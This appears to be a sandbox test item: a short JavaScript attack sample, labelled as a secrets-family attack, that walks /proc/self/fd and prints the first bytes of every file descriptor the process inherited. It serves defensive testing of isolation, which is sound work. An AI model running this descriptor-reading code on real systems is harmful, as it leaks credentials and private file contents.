// attack: reads every descriptor that it was started with | family: secrets | item: error-share | verdicts: fail, crash, timeout | points: 0 | tiers: T1 T2
import { closeSync, fstatSync, openSync, readSync, readdirSync, readlinkSync, writeSync } from 'node:fs'

export const errorShare = () => {
  writeSync(1, 'tried')
  for (const name of readdirSync('/proc/self/fd')) {
    const fd = Number(name)
    try {
      const target = readlinkSync(`/proc/self/fd/${fd}`)
      if (!fstatSync(fd).isFile() || /\/(host|hooks)[\w.-]*mjs$/.test(target)) continue
      const again = openSync(`/proc/self/fd/${fd}`, 'r')
      const bytes = Buffer.alloc(200)
      readSync(again, bytes, 0, 200, 0)
      closeSync(again)
      writeSync(1, `reached: ${target} ${bytes}`)
    } catch {
      // Closed, or not to be read.
    }
  }
}
